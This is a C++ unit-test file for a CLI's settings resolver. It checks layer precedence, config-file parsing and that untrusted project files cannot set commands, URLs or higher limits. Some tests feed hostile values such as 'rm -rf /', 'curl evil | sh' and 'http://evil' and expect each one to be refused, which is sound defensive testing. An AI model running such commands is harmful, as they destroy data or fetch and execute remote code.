#include "synth/cli/settings/settings.h"

#include "synth/cli/settings/config_file.h"
#include "synth/cli/settings/options.h"
#include "synth/cli/settings/setting_readers.h"
#include "tests/temporary_folder.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <fstream>

namespace synth {
namespace {

using std::chrono::milliseconds;
using std::chrono::seconds;
using ::testing::HasSubstr;

SettingLayer layer(SettingPlace place, const std::string& name, const std::string& text) {
  return {{name, SettingText{text, "somewhere:1", place}}};
}

Environment no_environment() {
  return [](const std::string&) { return std::nullopt; };
}

Environment environment_of(std::map<std::string, std::string> variables) {
  return [variables = std::move(variables)](const std::string& name) -> std::optional<std::string> {
    const auto found = variables.find(name);
    return found == variables.end() ? std::nullopt : std::optional(found->second);
  };
}

Settings resolved(const SettingLayers& layers) {
  auto settings = resolve(layers);
  EXPECT_TRUE(settings) << settings.error().message;
  return settings.value_or(Settings());
}

Error refusal(const SettingLayers& layers) {
  const auto settings = resolve(layers);
  EXPECT_FALSE(settings);
  return settings ? Error{} : settings.error();
}

TEST(SettingsTest, DefaultsAreThoseOfTheLibrary) {
  const Settings settings = resolved({});
  const Limits limits;
  const Budget budget;
  EXPECT_EQ(settings.limits.time, limits.time);
  EXPECT_EQ(settings.limits.wall_limit(), limits.wall_limit());
  EXPECT_EQ(settings.limits.memory_bytes, limits.memory_bytes);
  EXPECT_EQ(settings.limits.output_bytes, limits.output_bytes);
  EXPECT_EQ(settings.limits.disk_bytes, limits.disk_bytes);
  EXPECT_EQ(settings.limits.processes, limits.processes);
  EXPECT_EQ(settings.budget.attempts, budget.attempts);
  EXPECT_EQ(settings.budget.time, budget.time);
  EXPECT_EQ(settings.budget.search_memory_bytes, budget.search_memory_bytes);
  EXPECT_FALSE(settings.candidates);
  EXPECT_GE(settings.jobs, 1);
}

TEST(SettingsTest, EverySettingCanBeReadFromItsDefaultText) {
  for (const std::string& name : setting_names()) {
    EXPECT_TRUE(resolved({}).effective.contains(name)) << name;
  }
}

TEST(SettingsTest, AnOptionWinsOverEverything) {
  SettingLayers layers{
      layer(SettingPlace::option, "time", "4"), layer(SettingPlace::environment, "time", "3"),
      layer(SettingPlace::project, "time", "2"), layer(SettingPlace::user, "time", "8")};
  EXPECT_EQ(resolved(layers).limits.time, seconds(4));
  layers.options.clear();
  EXPECT_EQ(resolved(layers).limits.time, seconds(3));
  layers.environment.clear();
  EXPECT_EQ(resolved(layers).limits.time, seconds(2));
  layers.project.clear();
  EXPECT_EQ(resolved(layers).limits.time, seconds(8));
}

TEST(SettingsTest, TheOriginOfTheWinnerIsKept) {
  const Settings settings = resolved({.user = layer(SettingPlace::user, "seed", "7")});
  EXPECT_EQ(settings.effective.at("seed").origin, "somewhere:1");
  EXPECT_EQ(settings.effective.at("time").origin, "default");
}

TEST(SettingsTest, AProjectMayChooseHarmlessThings) {
  SettingLayer project;
  for (const auto& [name, text] : std::map<std::string, std::string>{
           {"language", "python"}, {"candidates", "4"}, {"seed", "9"}, {"format", "markdown"}}) {
    project[name] = SettingText{text, "synth.toml:1", SettingPlace::project};
  }
  const Settings settings = resolved({.project = project});
  EXPECT_EQ(settings.candidates, 4);
  EXPECT_EQ(settings.seed, 9U);
  EXPECT_EQ(settings.format, Format::markdown);
}

TEST(SettingsTest, AProjectMayNotSetWhatRunsOpensOrNamesAPath) {
  for (const std::string name : {"command", "author", "python", "level", "cache-dir", "no-cache",
                                 "fresh", "jobs", "shared-tests"}) {
    const std::string text = name == "author"  ? "command"
                             : name == "level" ? "none"
                             : name == "jobs"  ? "1"
                                               : "true";
    const Error error = refusal({.project = layer(SettingPlace::project, name, text)});
    EXPECT_EQ(error.code, Errc::not_allowed) << name;
    EXPECT_THAT(error.message, HasSubstr("somewhere:1: " + name));
    EXPECT_THAT(error.remedy, HasSubstr("--" + name));
  }
}

TEST(SettingsTest, AProjectIsRefusedEvenWhereAnOptionWouldWin) {
  const Error error = refusal({.options = layer(SettingPlace::option, "author", "offline"),
                               .project = layer(SettingPlace::project, "author", "command")});
  EXPECT_EQ(error.code, Errc::not_allowed);
}

TEST(SettingsTest, AProjectLowersLimitsAndBudgetsOnly) {
  EXPECT_EQ(
      resolved({.project = layer(SettingPlace::project, "memory", "100")}).limits.memory_bytes,
      std::size_t{100} << 20U);
  EXPECT_EQ(refusal({.project = layer(SettingPlace::project, "memory", "257")}).code,
            Errc::not_allowed);
  EXPECT_EQ(refusal({.project = layer(SettingPlace::project, "max-attempts", "4")}).code,
            Errc::not_allowed);
}

TEST(SettingsTest, AProjectsLimitIsHeldAgainstTheUsers) {
  const SettingLayer user = layer(SettingPlace::user, "time", "1");
  EXPECT_EQ(refusal({.project = layer(SettingPlace::project, "time", "2"), .user = user}).code,
            Errc::not_allowed);
}

TEST(SettingsTest, AProjectsWallLimitIsHeldAgainstTheOneThatFollowsFromTheCpuLimit) {
  EXPECT_EQ(resolved({.project = layer(SettingPlace::project, "wall", "15")}).limits.wall,
            seconds(15));
  EXPECT_EQ(refusal({.project = layer(SettingPlace::project, "wall", "15.1")}).code,
            Errc::not_allowed);
}

TEST(SettingsTest, ABatchLineIsHeldToTheSameRules) {
  const Settings base = resolved({.options = layer(SettingPlace::option, "max-time", "20")});
  const auto line = [](const std::string& name, const std::string& text) {
    return layer(SettingPlace::batch_line, name, text);
  };
  const auto lowered = with_line_options(base, line("max-time", "10"), false);
  ASSERT_TRUE(lowered);
  EXPECT_EQ(lowered->budget.time, seconds(10));
  EXPECT_FALSE(with_line_options(base, line("max-time", "21"), false));
  EXPECT_FALSE(with_line_options(base, line("command", "rm -rf /"), false));
  EXPECT_FALSE(with_line_options(base, line("author", "command"), false));
}

TEST(SettingsTest, TrustedInputMayChooseItsAuthorButNotTheCommand) {
  const Settings base = resolved({});
  EXPECT_TRUE(with_line_options(base, layer(SettingPlace::batch_line, "author", "offline"), true));
  EXPECT_FALSE(with_line_options(base, layer(SettingPlace::batch_line, "command", "true"), true));
}

TEST(SettingsTest, WrongValuesAreToldByTheirPlace) {
  EXPECT_EQ(refusal({.options = layer(SettingPlace::option, "time", "soon")}).code, Errc::usage);
  EXPECT_EQ(refusal({.environment = layer(SettingPlace::environment, "time", "-1")}).code,
            Errc::config);
  EXPECT_EQ(refusal({.user = layer(SettingPlace::user, "seed", "1.5")}).code, Errc::config);
  EXPECT_EQ(refusal({.project = layer(SettingPlace::project, "time", "nan")}).code,
            Errc::bad_input);
}

TEST(SettingsTest, AnUnknownChoiceSuggestsTheNearest) {
  const Error error = refusal({.options = layer(SettingPlace::option, "language", "pyton")});
  EXPECT_EQ(error.code, Errc::usage);
  EXPECT_THAT(error.remedy, HasSubstr("python"));
}

TEST(SettingsTest, FractionsOfSecondsAreKept) {
  EXPECT_EQ(resolved({.options = layer(SettingPlace::option, "time", "0.25")}).limits.time,
            milliseconds(250));
}

TEST(SettingsTest, TheEnvironmentHasEverySettingUnderItsOwnName) {
  const SettingLayer environment =
      environment_layer(environment_of({{"SYNTH_MAX_TIME", "5"}, {"SYNTH_SEED", ""}}));
  ASSERT_TRUE(environment.contains("max-time"));
  EXPECT_EQ(environment.at("max-time").origin, "environment SYNTH_MAX_TIME");
  EXPECT_FALSE(environment.contains("seed")) << "an empty variable counts as not set";
}

TEST(SettingsTest, TheUsersFileIsWhereXdgSays) {
  EXPECT_EQ(user_config_path(environment_of({{"XDG_CONFIG_HOME", "/x"}, {"HOME", "/h"}})),
            "/x/synth/config.toml");
  EXPECT_EQ(user_config_path(environment_of({{"XDG_CONFIG_HOME", "relative"}, {"HOME", "/h"}})),
            "/h/.config/synth/config.toml");
  EXPECT_EQ(user_config_path(no_environment()), std::nullopt);
}

TEST(SettingsTest, TheProjectsFileIsSearchedUpwardToTheRepository) {
  const TemporaryFolder folder;
  const auto inner = folder.path() / "repository" / "a" / "b";
  std::filesystem::create_directories(inner);
  folder.write("synth.toml", "seed = 1\n");
  EXPECT_EQ(find_project_file(inner), folder.path() / "synth.toml");
  std::filesystem::create_directories(folder.path() / "repository" / ".git");
  EXPECT_EQ(find_project_file(inner), std::nullopt) << "outside the repository";
  folder.write("repository/synth.toml", "seed = 2\n");
  EXPECT_EQ(find_project_file(inner), folder.path() / "repository" / "synth.toml");
}

TEST(SettingsTest, AStrangersCommandIsRefusedWithFileAndLine) {
  const TemporaryFolder folder;
  std::filesystem::create_directories(folder.path() / ".git");
  folder.write("synth.toml", "seed = 1\ncommand = \"curl evil | sh\"\n");
  const auto settings = load_settings({}, no_environment(), folder.path());
  ASSERT_FALSE(settings);
  EXPECT_EQ(settings.error().code, Errc::not_allowed);
  EXPECT_THAT(settings.error().message, HasSubstr("synth.toml:2: command"));
}

TEST(SettingsTest, AStrangersUrlIsRefusedWithFileAndLine) {
  for (const char* line : {"base-url = \"http://evil\"\n", "model = \"m\"\n", "replay = \"f\"\n",
                           "http-body = \"{}\"\n"}) {
    const auto read = parse_config(line, "synth.toml", SettingPlace::project);
    ASSERT_TRUE(read) << read.error().message;
    const Error error = refusal({.project = *read});
    EXPECT_EQ(error.code, Errc::not_allowed);
    EXPECT_THAT(error.message, HasSubstr("synth.toml:1: "));
  }
}

TEST(SettingsTest, AStrangerMayLimitWhatAModelCostsButNotAllowMore) {
  const SettingLayer project = layer(SettingPlace::project, "max-calls", "5");
  EXPECT_EQ(resolved({.project = project}).budget.spending.calls, 5);
  const SettingLayer user = layer(SettingPlace::user, "max-calls", "3");
  EXPECT_EQ(refusal({.project = project, .user = user}).code, Errc::not_allowed);
}

TEST(SettingsTest, EveryAuthorIsChosenByItsName) {
  for (const AuthorChoice choice :
       {AuthorChoice::automatic, AuthorChoice::offline, AuthorChoice::command, AuthorChoice::http,
        AuthorChoice::anthropic, AuthorChoice::openai, AuthorChoice::gemini,
        AuthorChoice::ollama}) {
    Settings settings;
    const auto applied = apply_setting(settings, "author",
                                       {std::string(name(choice)), "test", SettingPlace::option});
    ASSERT_TRUE(applied) << applied.error().message;
    EXPECT_EQ(settings.author, choice);
  }
}

TEST(ConfigFileTest, ReadsNumbersTextAndTruth) {
  const auto read = parse_config("time = 2\nwall = 2.5\nformat = \"json\"\nfresh = true\n",
                                 "config.toml", SettingPlace::user);
  ASSERT_TRUE(read) << read.error().message;
  EXPECT_EQ(read->at("time").text, "2");
  EXPECT_EQ(read->at("wall").text, "2.5");
  EXPECT_EQ(read->at("format").text, "json");
  EXPECT_EQ(read->at("fresh").text, "true");
  EXPECT_EQ(read->at("wall").origin, "config.toml:2");
}

TEST(ConfigFileTest, AnUnknownKeySuggestsTheNearest) {
  const auto read = parse_config("max-tme = 2\n", "config.toml", SettingPlace::user);
  ASSERT_FALSE(read);
  EXPECT_EQ(read.error().code, Errc::config);
  EXPECT_THAT(read.error().message, HasSubstr("config.toml:1"));
  EXPECT_THAT(read.error().remedy, HasSubstr("max-time"));
}

TEST(ConfigFileTest, TheFirstFaultOfTheFileIsTold) {
  const auto read = parse_config("zz = 1\naa = 2\n", "synth.toml", SettingPlace::project);
  ASSERT_FALSE(read);
  EXPECT_THAT(read.error().message, HasSubstr("synth.toml:1"));
}

TEST(ConfigFileTest, ASyntaxErrorNamesItsLine) {
  const auto read = parse_config("time = 2\nwall = = 3\n", "synth.toml", SettingPlace::project);
  ASSERT_FALSE(read);
  EXPECT_EQ(read.error().code, Errc::bad_input);
  EXPECT_THAT(read.error().message, HasSubstr("synth.toml:2"));
}

TEST(ConfigFileTest, TablesAndListsAreNoSettings) {
  EXPECT_FALSE(parse_config("[time]\nx = 1\n", "synth.toml", SettingPlace::project));
  EXPECT_FALSE(parse_config("time = [1]\n", "synth.toml", SettingPlace::project));
}

TEST(SettingsTest, VariablesThatAreNoSettingsAreNamed) {
  EXPECT_THAT(
      unknown_variables({"PATH", "SYNTH_MAX_TIME", "SYNTH_API_KEY", "SYNTH_TEST_X", "SYNTH_MAX_TIM",
                         "SYNTHESIS"}),
      ::testing::ElementsAre("the environment has SYNTH_MAX_TIM, which is not a setting; did "
                             "you mean SYNTH_MAX_TIME?"));
}

}  // namespace
}  // namespace synth
